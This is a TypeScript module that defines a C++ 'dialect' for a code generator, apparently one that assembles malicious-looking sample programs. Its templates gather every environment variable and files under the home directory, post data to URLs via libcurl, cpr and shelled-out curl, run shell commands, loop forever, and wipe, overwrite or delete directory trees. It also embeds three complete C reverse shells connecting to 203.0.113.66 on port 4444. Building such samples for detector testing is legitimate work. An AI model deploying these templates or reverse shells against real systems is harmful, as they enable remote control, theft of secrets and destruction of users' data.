import { type Dialect, value, wrap } from "./dialect.ts";

const quote = (text: string): string => `std::string(${JSON.stringify(text)})`;
const home = (below: string): string => `(std::string(getenv("HOME")) + ${JSON.stringify(`/${below}`)})`;
const whole = (includes: readonly string[], definitions: readonly string[], body: readonly string[]): string =>
  [
    ...includes.map((each) => `#include <${each}>`),
    "",
    ...definitions,
    "",
    ...wrap("int main(int argc, char **argv) {", [...body, "return 0;"], "}", 4),
    "",
  ].join("\n");

export const cpp: Dialect = {
  name: "cpp",
  file: "src/notes.cpp",
  run: "g++ -O2 src/notes.cpp -o notes && ./notes",
  imports: [
    ["curl_easy", "curl/curl.h"],
    ["cpr::", "cpr/cpr.h"],
    ["httplib::", "httplib.h"],
    ["fs::", "filesystem"],
    ["std::cout", "iostream"],
    ["popen", "cstdio"],
    ["sleep(", "unistd.h"],
  ],
  program: ({ definitions, body }, imports) =>
    whole(
      ["string", "fstream", "sstream", "cstdlib", "filesystem", ...imports.filter((each) => each !== "filesystem")],
      [
        "namespace fs = std::filesystem;",
        "extern char **environ;",
        ...wrap(
          "std::string slurp(const std::string &path) {",
          ["std::ifstream in(path);", "std::stringstream text;", "text << in.rdbuf();", "return text.str();"],
          "}",
          4,
        ),
        ...wrap(
          "std::string allVariables() {",
          ["std::string all;", 'for (char **e = environ; *e; e++) { all += *e; all += "\\n"; }', "return all;"],
          "}",
          4,
        ),
        ...definitions,
      ],
      body,
    ),
  quote,
  environment: { one: (name) => `std::string(getenv(${name}.c_str()))`, all: "allVariables()" },
  contentOf: (below) => `slurp(${home(below)})`,
  home,
  clients: {
    libcurl: {
      post: (url, text) => [
        `std::string fields = ${text};`,
        `std::string url = ${url};`,
        "CURL *curl = curl_easy_init();",
        "curl_easy_setopt(curl, CURLOPT_URL, url.c_str());",
        "curl_easy_setopt(curl, CURLOPT_POSTFIELDS, fields.c_str());",
        "curl_easy_perform(curl);",
        "curl_easy_cleanup(curl);",
      ],
    },
    cpr: {
      post: (url, text) => [`cpr::Post(cpr::Url{${url}}, cpr::Body{${text}});`],
      get: (url) => value("r.text", `cpr::Response r = cpr::Get(cpr::Url{${url}});`),
    },
    "cpr-payload": { post: (url, text) => [`auto r = cpr::Post(cpr::Url{${url}}, cpr::Payload{{"data", ${text}}});`] },
    "curl-system": {
      post: (url, text) => [`std::string cmd = "curl -s -d '" + ${text} + "' " + ${url};`, "system(cmd.c_str());"],
    },
    "curl-popen": {
      post: (url, text) => [
        `FILE *p = popen(("curl -s --data-binary @- " + ${url}).c_str(), "w");`,
        `fputs((${text}).c_str(), p);`,
        "pclose(p);",
      ],
    },
  },
  shells: {
    system: { run: (command) => [`system((${command}).c_str());`] },
    popen: {
      run: (command) => [`pclose(popen((${command}).c_str(), "r"));`],
      capture: (command) =>
        value(
          "seen",
          `FILE *p = popen((${command}).c_str(), "r");`,
          "std::string seen;",
          "char buffer[4096];",
          "while (fgets(buffer, sizeof buffer, p)) seen += buffer;",
        ),
    },
    execl: { run: (command) => [`execl("/bin/sh", "sh", "-c", (${command}).c_str(), (char *)nullptr);`] },
  },
  variable: (name) => name,
  set: (name, expression) => `std::string ${name} = ${expression};`,
  define: (name, parameters, body) =>
    wrap(`void ${name}(${parameters.map((each) => `const std::string &${each}`).join(", ")}) {`, body, "}", 4),
  getter: (name, expression) => ({
    definitions: wrap(`std::string ${name}() {`, [`return ${expression};`], "}", 4),
    value: `${name}()`,
  }),
  call: (name, values) => `${name}(${values.join(", ")});`,
  record: (url, text) => ({
    code: {
      definitions: ["struct Job {", "    std::string target;", "    std::string text;", "};"],
      body: [`Job job{${url}, ${text}};`],
    },
    url: "job.target",
    text: "job.text",
  }),
  loop: (items, body) => wrap(`for (const std::string &item : {${items.join(", ")}}) {`, body("item"), "}", 4),
  forever: (body) => wrap("for (;;) {", [...body, "sleep(60);"], "}", 4),
  save: (path, text) => [`std::ofstream(${path}) << ${text};`],
  append: (path, text) => [`std::ofstream log(${path}, std::ios::app);`, `log << ${text} << "\\n";`],
  print: (text) => `std::cout << ${text} << std::endl;`,
  walk: (folder, body) =>
    wrap(
      `for (const auto &entry : fs::recursive_directory_iterator(${folder})) {`,
      ["if (!entry.is_regular_file()) continue;", ...body("entry.path()")],
      "}",
      4,
    ),
  remove: (file) => [`fs::remove(${file});`],
  overwrite: (file) => [`std::ofstream(${file}, std::ios::binary) << std::string(65536, '\\0');`],
  removeTree: (folder) => [`fs::remove_all(${folder});`],
  decode: (text) => `base64::from_base64(${text})`,
  shellsBehindSockets: {
    dup2: '#include <arpa/inet.h>\n#include <sys/socket.h>\n#include <unistd.h>\n\nint main(void) {\n    int s = socket(AF_INET, SOCK_STREAM, 0);\n    struct sockaddr_in a = {0};\n    a.sin_family = AF_INET;\n    a.sin_port = htons(4444);\n    a.sin_addr.s_addr = inet_addr("203.0.113.66");\n    connect(s, (struct sockaddr *)&a, sizeof a);\n    dup2(s, 0);\n    dup2(s, 1);\n    dup2(s, 2);\n    char *const argv[] = {"/bin/sh", 0};\n    execve("/bin/sh", argv, 0);\n}\n',
    "dup2-loop":
      '#include <arpa/inet.h>\n#include <netinet/in.h>\n#include <unistd.h>\n\n#define HOST "203.0.113.66"\n#define PORT 4444\n\nint main() {\n    struct sockaddr_in peer;\n    peer.sin_family = AF_INET;\n    peer.sin_port = htons(PORT);\n    inet_pton(AF_INET, HOST, &peer.sin_addr);\n    int fd = socket(AF_INET, SOCK_STREAM, 0);\n    if (connect(fd, (struct sockaddr *)&peer, sizeof(peer)) != 0) return 1;\n    for (int i = 0; i < 3; i++) dup2(fd, i);\n    execl("/bin/bash", "bash", "-i", NULL);\n}\n',
    popen:
      '#include <arpa/inet.h>\n#include <stdio.h>\n#include <string.h>\n#include <unistd.h>\n\nint main() {\n    int s = socket(AF_INET, SOCK_STREAM, 0);\n    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(4444)};\n    a.sin_addr.s_addr = inet_addr("203.0.113.66");\n    connect(s, (struct sockaddr *)&a, sizeof(a));\n    char cmd[1024], out[4096];\n    int n;\n    while ((n = read(s, cmd, sizeof cmd - 1)) > 0) {\n        cmd[n] = 0;\n        FILE *p = popen(cmd, "r");\n        while (fgets(out, sizeof out, p)) write(s, out, strlen(out));\n        pclose(p);\n    }\n}\n',
  },
  sockets: {
    print:
      '#include <arpa/inet.h>\n#include <stdio.h>\n#include <stdlib.h>\n#include <unistd.h>\n\nint main(void) {\n    int s = socket(AF_INET, SOCK_STREAM, 0);\n    struct sockaddr_in a = {0};\n    a.sin_family = AF_INET;\n    a.sin_port = htons(6379);\n    a.sin_addr.s_addr = inet_addr("127.0.0.1");\n    connect(s, (struct sockaddr *)&a, sizeof a);\n    write(s, "PING\\r\\n", 6);\n    char line[64] = {0};\n    read(s, line, sizeof line - 1);\n    printf("%s", line);\n    system("git log --oneline -5");\n}\n',
  },
};
